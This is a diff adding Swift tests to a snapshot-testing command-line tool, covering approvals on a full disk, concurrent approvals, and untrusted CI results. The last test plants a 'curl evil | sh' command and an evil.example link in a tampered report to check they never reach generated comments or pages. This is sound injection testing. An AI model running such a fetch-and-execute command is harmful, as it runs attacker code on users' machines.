@@ -203,4 +203,59 @@ import Testing
     )
     #expect(result.output.hasSuffix("600\n600\n600\n700\n"), "\(result)")
   }
+
+  @Test func `an approval that finds no room changes no reference`() throws {
+    let program = try program(changed: ["a", "b"])
+    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
+    let before = try (program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"), program.bytes("refs/V.a.9x9.png"))
+    // No file may become longer than nothing, as on a full disk.
+    let full = try program.start(
+      ["snapshot", "approve", "refs", "snapshot-results"], shell: "trap '' XFSZ; ulimit -f 0").finish()
+    #expect(full.exitCode != 0)
+    let after = try (program.files(in: "refs").sorted(), program.bytes("refs/snapshots.json"), program.bytes("refs/V.a.9x9.png"))
+    #expect(before == after)
+    #expect(try program.run("snapshot", "approve", "refs", "snapshot-results").exitCode == 0)
+    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 0)
+  }
+
+  @Test func `approvals by many programs lose no entry`() throws {
+    let program = try program(changed: Set(Self.names))
+    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
+    let running = try Self.names.map {
+      try program.start(["snapshot", "approve", "refs", "snapshot-results", "V.\($0).9x9"])
+    }
+    for program in running { #expect(try program.finish().exitCode == 0) }
+    let verified = try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9")
+    #expect(verified.exitCode == 0, "\(verified)")
+    let orphans = try program.run("snapshot", "orphans", "refs", "snapshot-results")
+    #expect(orphans.exitCode == 0, "\(orphans)")
+    let entries = try program.text("refs/snapshots.json").components(separatedBy: "\"pixels\"").count - 1
+    #expect(entries == Self.names.count)
+  }
+
+  /// Results that somebody else has made: `gh run download`, then `merge` and `review`.
+  @Test func `results from elsewhere show no command and no picture of theirs`() throws {
+    let program = try program(changed: ["a"])
+    #expect(try program.run("snapshot", "verify", "refs", "V.swift", "--size", "9x9").exitCode == 1)
+    let secret = try Program(["Secret.swift": "import SwiftUI\n#Preview(\"s\") { Color.green }"])
+    #expect(try secret.run("render", "Secret.swift", "--size", "30x30", "-o", "out").exitCode == 0)
+    let path = secret.folder.appendingPathComponent("out/Secret.s.30x30.png").path
+    var report = try program.text("snapshot-results/report.json")
+    report = report.replacing("fittingroom snapshot approve", with: "curl evil | sh\\n```\\n[x](http://evil.example)")
+    for kind in ["reference", "actual", "difference"] {
+      report = report.replacing(try Regex("\"\(kind)\": ?\"[^\"]*\""), with: "\"\(kind)\": \"\(path)\"")
+    }
+    try program.write(report, to: "snapshot-results/report.json")
+    let merged = try program.run(
+      "snapshot", "merge", "snapshot-results", "--markdown", "comment.md", "--html", "page.html", "--references", "refs")
+    #expect(merged.exitCode == 1)
+    for text in try [merged.output, program.text("comment.md"), program.text("page.html")] {
+      #expect(!text.contains("curl evil") && !text.contains("evil.example") && !text.contains(path), "\(text.prefix(2000))")
+    }
+    #expect(merged.output.contains("to accept: fittingroom snapshot approve 'refs' 'snapshot-results' 'V.a.9x9'"), "\(merged)")
+    // No small copy is one of a picture of another size.
+    for name in try program.files(in: "page-thumbnails") where name.hasSuffix(".png") {
+      #expect(try program.pixelSize("page-thumbnails/\(name)") != [30, 30])
+    }
+  }
 }
